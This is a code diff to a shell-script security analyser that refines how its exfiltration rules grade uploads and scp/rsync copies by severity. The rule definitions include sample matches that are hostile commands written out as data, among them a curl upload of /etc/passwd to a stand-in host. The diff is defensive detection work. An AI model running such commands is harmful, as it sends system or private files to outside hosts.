@@ -9,6 +9,7 @@ from engine.analysis import paths
 from engine.analysis.shell.declare import HIGH, LOW, MEDIUM, SECRETS, found, rule
 from engine.analysis.shell.flow import before
 from engine.analysis.shell.model import Arg, Command, Script
+from engine.analysis.shell.values import UNKNOWN
 from engine.models import Violation
 
 UPLOAD = rule(
@@ -17,7 +18,10 @@ UPLOAD = rule(
     "exfil_upload",
     HIGH,
     attack="Sends files, secrets or results to the attacker's server.",
-    why="HIGH: data that has left cannot be recalled.",
+    why=(
+        "HIGH: data that has left cannot be recalled;"
+        " MEDIUM for a file of the workspace that is sent to this machine or chosen only at run time."
+    ),
     fix="Leave results in the workspace, where they are collected.",
     match=(
         "curl -F file=@/etc/passwd http://x.test",
@@ -66,7 +70,7 @@ COPY = rule(
     "net_download",
     MEDIUM,
     attack="Brings tools in, or takes stolen data out.",
-    why="MEDIUM: depends on what is copied; secrets have their own rule.",
+    why="MEDIUM: depends on what is copied; files of the system and of people count as data that is sent.",
     fix="Send files with the submission; leave results in the workspace.",
     match=(
         "scp a.txt u@x.test:/tmp",
@@ -173,8 +177,9 @@ def _sent(command: Command, sent: list[Arg]) -> Iterator[Violation]:
     if not from_file and not output:
         yield found(POST, command, severity=LOW if is_local(command) else None)
     else:
-        private = output or any(_is_private(text) for text in texts)
-        yield found(UPLOAD, command, severity=None if private else MEDIUM)
+        private = output or any(map(_is_private, texts))
+        open_ended = is_local(command) or UNKNOWN in " ".join(texts)
+        yield found(UPLOAD, command, severity=MEDIUM if open_ended and not private else None)
 
 
 def _is_private(text: str) -> bool:
@@ -187,5 +192,6 @@ def _copy(command: Command) -> Iterator[Violation]:
         return
     remote = any(re.match(r"(?:[^/]+@)?[^/]+::?|rsync://", arg.text) for arg in command.operands)
     if remote or command.name != "rsync":
+        sent = any(_is_private(arg.text) for arg in command.operands[:-1])
         secret = any(paths.is_credential(paths.normal(arg.text)) for arg in command.operands)
-        yield found(UPLOAD if secret else COPY, command)
+        yield found(UPLOAD if secret or sent else COPY, command)
